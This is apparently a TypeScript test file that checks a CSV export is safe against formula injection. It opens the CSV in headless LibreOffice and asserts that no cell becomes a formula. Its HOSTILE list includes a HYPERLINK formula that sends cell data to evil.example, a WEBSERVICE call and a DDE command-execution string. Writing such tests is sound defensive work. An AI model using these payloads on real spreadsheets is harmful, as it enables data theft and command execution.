// @vitest-environment node
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { unzipSync } from 'fflate';
import { afterAll, expect, it } from 'vitest';
import { csvOf } from '../../lib/exports/csv';
import { hasProgram } from './programs';
import { chainOf } from './sample-log';

const able = hasProgram('soffice', ['--version'], 'How LibreOffice opens the CSV');
const folder = mkdtempSync(join(tmpdir(), 'signoff-sheet-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** What a client, or a page, could write to have a spreadsheet run it. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"Click")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  'first\n=1+1',
  'a;=1+1',
  '＝1+1',
  ' =1+1',
  '\u200b=1+1',
  '"=1+1',
  `=cmd|' /C calc'!A0`,
  '=WEBSERVICE("https://evil.example/")',
];

/** The sheet's cells, as LibreOffice has read them with the given separator (code of the character). */
function opened(separator: number): string {
  const profile = pathToFileURL(join(folder, 'profile')).href;
  const filter = `CSV:${separator},34,76,1`;
  const to = ['--convert-to', 'ods', '--outdir', folder, join(folder, 'log.csv')];
  execFileSync('soffice', [`-env:UserInstallation=${profile}`, '--headless', `--infilter=${filter}`, ...to], {
    stdio: 'ignore',
    timeout: 90_000,
  });
  const content = unzipSync(new Uint8Array(readFileSync(join(folder, 'log.ods'))))['content.xml'];
  return new TextDecoder().decode(content);
}

it.runIf(able)('LibreOffice finds no formula in the CSV of a hostile log', { timeout: 240_000 }, async () => {
  const log = chainOf(
    'c1',
    HOSTILE.map((text, i) => ({
      kind: 'commented' as const,
      post: { id: `p${i}`, key: text, title: text, channels: [text] },
      by: { role: 'client' as const, alias: text },
      detail: { text, reason: text },
    })),
    '=1+1',
  );
  let csv = '';
  for await (const piece of csvOf([log], { nameOf: (_client, alias) => alias })) csv += piece;
  writeFileSync(join(folder, 'log.csv'), csv);
  // As it is meant to be opened, and as a spreadsheet set to a country with semicolons does.
  for (const separator of [44, 59]) {
    const cells = opened(separator);
    expect(cells).toContain('commented');
    expect(cells.match(/table:formula="[^"]*"/g)).toBeNull();
  }
  // The test would notice one.
  writeFileSync(join(folder, 'log.csv'), 'kind\r\n=1+1\r\n');
  expect(opened(44)).toContain('table:formula');
});
